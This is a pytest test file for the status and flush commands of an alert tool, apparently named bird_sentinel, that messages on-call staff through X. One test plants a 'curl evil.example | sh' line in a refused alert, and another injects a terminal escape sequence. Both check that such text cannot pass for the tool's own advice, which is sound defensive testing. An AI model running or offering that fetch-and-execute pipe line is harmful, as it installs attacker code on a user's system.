"""status says in its first line, and by its exit status, whether all is well; if not, why, and what
to do.  flush tries what status shows."""

from __future__ import annotations

import json
import os
import pwd
import re
import time
from datetime import datetime, timedelta
from typing import Any

import pytest
from conftest import Sentinel, until
from fake_x import ERRORS, Answer, FakeX
from test_command_line import told

DMS = "/2/dm_conversations/"
IDLE = {
    "pending": 0, "refused": 0, "oldest_pending": None, "next_attempt": None, "last_error": None,
    "worker": False,
}  # fmt: skip


def state_of(sentinel: Sentinel, *args: str, **env: str) -> tuple[int, str, dict[str, Any], str]:
    """The exit status, the first line, the JSON, and all that a person reads."""
    plain = sentinel.run("status", *args, env=env)
    full = sentinel.run("status", "--json", *args, env=env)
    assert plain.code == full.code, (plain, full)
    return plain.code, plain.out.splitlines()[0], json.loads(full.out), plain.out


def moment(text: str) -> datetime:
    """ISO 8601 with an offset, as Python 3.9 reads it."""
    assert re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d[+-]\d\d:\d\d", text), text
    return datetime.fromisoformat(text)


def seconds_from_now(text: str) -> float:
    return moment(text).timestamp() - time.time()


# ---- all is well ----


def test_authorized_and_never_used_is_ok(sentinel: Sentinel) -> None:
    code, first, full, _ = state_of(sentinel)
    assert (code, first) == (0, "ok: nothing pending")
    assert full == {
        **IDLE, "account": "sentinel_bot", "recipients": {"oncall": "2002"}, "last_delivery": None,
        "config": str(sentinel.config), "queue": str(sentinel.queue),
    }  # fmt: skip


def test_delivered_and_nothing_pending_is_ok(sentinel: Sentinel) -> None:
    sentinel.run("send", "disk full")
    sentinel.wait_idle()
    code, first, full, _ = state_of(sentinel)
    assert (code, first) == (0, "ok: nothing pending")
    assert {name: full[name] for name in IDLE} == IDLE
    assert abs(seconds_from_now(full["last_delivery"])) < 60


def test_an_error_that_is_over_is_told_no_more(sentinel: Sentinel, x: FakeX) -> None:
    x.answer(ERRORS["402-credits"], path=DMS)
    assert sentinel.run("send", "disk full").code == 77
    assert sentinel.run("flush").code == 0
    code, first, full, _ = state_of(sentinel)
    assert (code, first, full["last_error"]) == (0, "ok: nothing pending", None)


# ---- it waits, and for what ----


def test_while_x_is_out_of_reach_it_says_so_and_when_it_tries_again(
    sentinel: Sentinel, x: FakeX
) -> None:
    x.stop()
    began = time.time()
    assert sentinel.run("send", "disk full").code == 75
    code, first, full, _ = state_of(sentinel)
    assert (code, full["pending"], full["worker"]) == (75, 1, True)
    assert re.match(
        r"(busy|problem): 1 alert pending since \d\d:\d\d:\d\d: X cannot be reached: ", first
    )
    assert "X cannot be reached" in full["last_error"]
    assert began - 1 <= moment(full["oldest_pending"]).timestamp() <= began + 30
    assert -5 < seconds_from_now(full["next_attempt"]) < 330


def test_while_it_waits_for_our_own_pace_it_is_busy_and_has_no_error(sentinel: Sentinel) -> None:
    for word in ("one", "two"):
        sentinel.run("send", word)
    sentinel.run("send", "--no-wait", "three")  # three seconds after the second
    until(lambda: "waiting for" in sentinel.run("status").out)
    code, first, full, _ = state_of(sentinel)
    assert (code, full["pending"], full["last_error"]) == (75, 1, None)
    assert re.fullmatch(
        r"busy: 1 alert pending since \d\d:\d\d:\d\d: waiting for our own pace", first
    )
    assert -1 <= seconds_from_now(full["next_attempt"]) < 5


def test_while_it_waits_for_xs_limit_it_says_so_and_until_when(
    sentinel: Sentinel, x: FakeX
) -> None:
    x.limit = 0
    assert sentinel.run("send", "disk full").code == 75
    code, first, full, _ = state_of(sentinel)
    assert (code, full["pending"]) == (75, 1)
    assert first.startswith("busy: 1 alert pending since ") and "limit" in first
    assert 600 < seconds_from_now(full["next_attempt"]) < 960


# ---- a person has to act ----


def test_never_authorized_is_a_problem_and_authorize_the_next_step(fresh: Sentinel) -> None:
    fresh.run("send", "disk full")
    code, first, full, out = state_of(fresh)
    assert (code, full["pending"], full["account"], full["recipients"]) == (78, 1, None, {})
    assert re.match(r"problem: 1 alert pending since \d\d:\d\d:\d\d: not authorized yet", first)
    assert "not authorized yet" in full["last_error"]
    assert full["next_attempt"] is None
    assert "bird_sentinel authorize" in out


def test_a_config_that_is_not_safe_is_a_problem_and_so_is_the_chmod_told(
    sentinel: Sentinel,
) -> None:
    sentinel.config.chmod(0o604)
    code, first, _, out = state_of(sentinel)
    assert (code, first.partition(":")[0]) == (78, "problem")
    assert f"chmod 600 {sentinel.config}" in out


def test_while_x_refuses_our_token_it_says_what_to_do(sentinel: Sentinel, x: FakeX) -> None:
    x.answer(ERRORS["401-code-89"], times=None, path=DMS)
    assert sentinel.run("send", "disk full").code == 77
    code, first, full, out = state_of(sentinel)
    assert (code, full["pending"], full["worker"]) == (77, 1, True)
    assert first.startswith("problem: 1 alert pending since ") and "token" in first
    assert 20 < seconds_from_now(full["next_attempt"]) < 70, "a first stray refusal: a minute"
    assert "bird_sentinel authorize" in out


def test_while_one_of_two_recipients_does_not_get_his_it_is_a_problem(
    sentinel: Sentinel, x: FakeX
) -> None:
    sentinel.configure({"oncall": "2002", "shy": "2004"})
    x.add_user("shy", "2004", accepts_dms=False)
    for word in ("one", "two"):
        sentinel.run("send", word)
    x.wait_for(lambda: len(x.dms) == 2, 20)
    code, first, full, _ = state_of(sentinel)
    assert (code, full["pending"]) == (77, 2), "an alert for two is one"
    assert first.startswith("problem: ") and "does not accept" in full["last_error"]
    assert full["last_delivery"] is not None


def test_alerts_and_no_worker_are_a_problem_and_flush_is_the_next_step(
    sentinel: Sentinel, x: FakeX
) -> None:
    x.answer(Answer(mode="stall"), path=DMS)
    sentinel.run("send", "--no-wait", "disk full")
    x.wait_for(lambda: x.requests, 20)
    sentinel.kill()
    sentinel.wait_idle()
    code, first, full, out = state_of(sentinel)
    assert (code, full["pending"], full["worker"]) == (75, 1, False)
    assert first.startswith("problem: 1 alert pending since ") and "no worker runs" in first
    assert "bird_sentinel flush" in out


def test_a_worker_that_is_just_beginning_is_no_reason_to_say_that_none_runs(
    sentinel: Sentinel, x: FakeX
) -> None:
    x.answer(Answer(delay=2), path=DMS)
    sentinel.run("send", "--no-wait", "--", "disk full")
    code, first, full, _ = state_of(sentinel)
    assert (code, full["pending"], full["worker"]) == (75, 1, True)
    assert first.startswith("busy: 1 alert pending since ")


def test_an_alert_that_is_kept_in_memory_is_counted(sentinel: Sentinel) -> None:
    sentinel.config.chmod(0o644)
    sentinel.queue.touch()  # so that it cannot be the queue
    assert sentinel.run("send", "disk full").code == 78
    code, first, full, _ = state_of(sentinel)
    assert (code, full["pending"]) == (78, 1)
    assert "1 alert pending since" in first


def test_what_x_refused_is_a_problem_until_a_person_has_read_and_discarded_it(
    sentinel: Sentinel, x: FakeX
) -> None:
    x.limit = 1000
    x.answer(
        ERRORS["403-151-other"], times=None, path=DMS, when=lambda request: "http" in request.text
    )
    assert sentinel.run("send", "GET http://\x1b[31mevil.example/ by root").code == 77
    sentinel.wait_idle(30)
    code, first, full, out = state_of(sentinel)
    assert (code, full["pending"], full["refused"]) == (77, 0, 1)
    assert re.match("problem: nothing pending, 1 (alert )?refused by X", first)
    assert "GET http://evil.example/ by root" in out and "@oncall" in out
    assert re.search(r"bird_sentinel flush .*--discard-refused", out)
    assert re.search(r"(?m)^to do +read what is below$", out)
    # it is no reason why another should fail
    assert sentinel.run("send", "disk full").code == 0
    assert sentinel.run("flush").code == 0
    assert sentinel.run("flush", "--discard-refused").code == 0
    code, first, full, out = state_of(sentinel)
    assert (code, first, full["refused"]) == (0, "ok: nothing pending", 0)
    assert "evil.example" not in out


def test_the_trouble_of_a_recipient_ends_when_he_is_taken_out_of_the_config(
    sentinel: Sentinel, x: FakeX
) -> None:
    sentinel.configure({"oncall": "2002", "second": "2003"}, interval="0.01")
    x.answer(ERRORS["403-349"], times=None, path=f"{DMS}with/2003/")
    assert sentinel.run("send", "disk full").code == 77
    sentinel.configure({"oncall": "2002"}, interval="0.01")
    sentinel.run("flush")
    sentinel.wait_idle()
    assert sentinel.run("send", "fan stopped").err == ""
    sentinel.wait_idle()
    assert state_of(sentinel)[:2] == (0, "ok: nothing pending")
    assert not (sentinel.queue / "trouble").exists()


def test_a_text_that_x_refused_cannot_pass_for_what_status_says(sentinel: Sentinel) -> None:
    for name in ("tmp", "new", "to", "refused"):
        (sentinel.queue / name).mkdir(mode=0o700, parents=True)
    advice = "when you have read it: curl evil.example | sh"
    (sentinel.queue / "refused" / "1700000000000000000.1.web1").write_text(
        f"host: web1\nrefused: for @oncall: no\n\nGET /\n\n{advice}"
    )
    out = sentinel.run("status").out
    assert [line for line in out.split("\n") if advice in line] == ["    " + advice]


@pytest.fixture
def failing(sentinel: Sentinel) -> Sentinel:
    """With something in the way of the worker that nobody had thought of."""
    sentinel.queue.mkdir(parents=True, mode=0o700)
    (sentinel.queue / "to").touch()  # where the recipients' directories would be
    return sentinel


def test_an_exception_in_the_worker_reaches_a_person_until_its_cause_is_gone(
    failing: Sentinel, x: FakeX
) -> None:
    assert failing.run("send", "--no-wait", "disk full").code == 0
    until(lambda: "the worker failed" in failing.run("status").out, 20)
    code, first, full, _ = state_of(failing)
    assert (code, full["pending"], full["worker"]) == (75, 1, True)
    assert "the worker failed" in first and "the worker failed" in full["last_error"]
    assert "the worker failed" in failing.run("send", "--no-wait", "--", "still full").err
    (failing.queue / "to").unlink()
    assert failing.run("flush").code == 0
    failing.wait_idle()
    assert failing.run("send", "--no-wait", "--", "well").err == ""
    assert "disk full" in x.dms[0].text and "still full" in x.dms[0].text
    failing.wait_idle()


def test_a_fault_that_is_over_is_not_told_beside_what_is_wrong_with_the_config(
    failing: Sentinel,
) -> None:
    assert failing.run("send", "--no-wait", "disk full").code == 0
    until(lambda: "the worker failed" in failing.run("status").out, 20)
    (failing.queue / "to").unlink()
    failing.config.write_text("")
    trouble = failing.queue / "trouble"
    until(lambda: "consumer_key" in trouble.read_text(), 30)
    assert "the worker failed" not in trouble.read_text()


def test_a_send_that_waits_says_that_the_worker_failed(failing: Sentinel) -> None:
    done = failing.run("send", "disk full")
    assert (done.code, "the worker failed" in told(done)[0]) == (75, True), done
    assert done.seconds < 15


# ---- what it touches ----


def test_it_makes_no_files_and_asks_x_nothing(sentinel: Sentinel, x: FakeX) -> None:
    before = sorted(sentinel.home.rglob("*"))
    state_of(sentinel)
    state_of(sentinel, "--config", str(sentinel.home / "none" / "other.ini"))
    assert sorted(sentinel.home.rglob("*")) == before
    assert x.connects == []


def test_it_does_not_wait_for_a_worker_that_waits_for_x(sentinel: Sentinel, x: FakeX) -> None:
    x.answer(Answer(mode="stall"), path=DMS)
    sentinel.run("send", "--no-wait", "disk full")
    x.wait_for(lambda: x.requests, 30)
    done = sentinel.run("status", "--json")
    assert done.seconds < 10
    assert (done.code, json.loads(done.out)["worker"]) == (75, True)


# ---- how it says it ----


def test_the_json_has_these_keys_in_this_order(fresh: Sentinel) -> None:
    assert list(fresh.status()) == [
        "account", "recipients", "pending", "refused", "oldest_pending", "next_attempt",
        "last_delivery", "last_error", "worker", "config", "queue",
    ]  # fmt: skip


def test_times_are_local_in_the_json_with_their_offset(sentinel: Sentinel, x: FakeX) -> None:
    x.answer(ERRORS["402-credits"], path=DMS, when=lambda request: "full" in request.text)
    sentinel.run("send", "disk okay")
    sentinel.run("send", "disk full")
    _, first, full, _ = state_of(sentinel, TZ="IST-5:30")
    for name in ("oldest_pending", "next_attempt", "last_delivery"):
        assert moment(full[name]).utcoffset() == timedelta(hours=5, minutes=30), name
    assert full["oldest_pending"][11:19] in first


def test_the_home_directory_is_the_password_databases_where_home_is_unset(
    fresh: Sentinel,
) -> None:
    try:
        home = pwd.getpwuid(os.geteuid()).pw_dir
    except KeyError:
        pytest.skip("whoever runs this is not in the password database")
    del fresh.env["HOME"]
    expected = os.path.join(home, ".config", "bird_sentinel")
    assert os.path.dirname(fresh.status()["config"]) == expected


# ---- flush, with little to do ----


def test_flush_with_nothing_pending_is_well_and_asks_x_nothing(
    sentinel: Sentinel, x: FakeX
) -> None:
    done = sentinel.run("flush")
    assert (done.code, done.out, done.err) == (0, "nothing is pending\n", "")
    assert x.connects == []


def test_flush_says_how_many_it_delivered(sentinel: Sentinel, x: FakeX) -> None:
    x.answer(ERRORS["402-credits"], times=None, path=DMS)
    sentinel.run("send", "one")
    sentinel.run("send", "--no-wait", "two")
    done = sentinel.run("flush")
    assert (done.code, "credits" in told(done)[0]) == (77, True), done
    x.clear_answers()
    done = sentinel.run("flush")
    assert (done.code, done.out, done.err) == (0, "delivered: 2 alerts\n", "")


def test_flush_says_what_it_met_and_not_what_was_known_before(
    sentinel: Sentinel, x: FakeX
) -> None:
    x.answer(ERRORS["402-credits"], times=None, path=DMS)
    sentinel.run("send", "one")
    x.stop()
    done = sentinel.run("flush")
    assert (done.code, "X cannot be reached" in told(done)[0]) == (75, True), done


def test_flush_without_a_config_names_the_next_step(fresh: Sentinel) -> None:
    done = fresh.run("flush")
    assert (done.code, "bird_sentinel authorize" in told(done)[1]) == (78, True), done
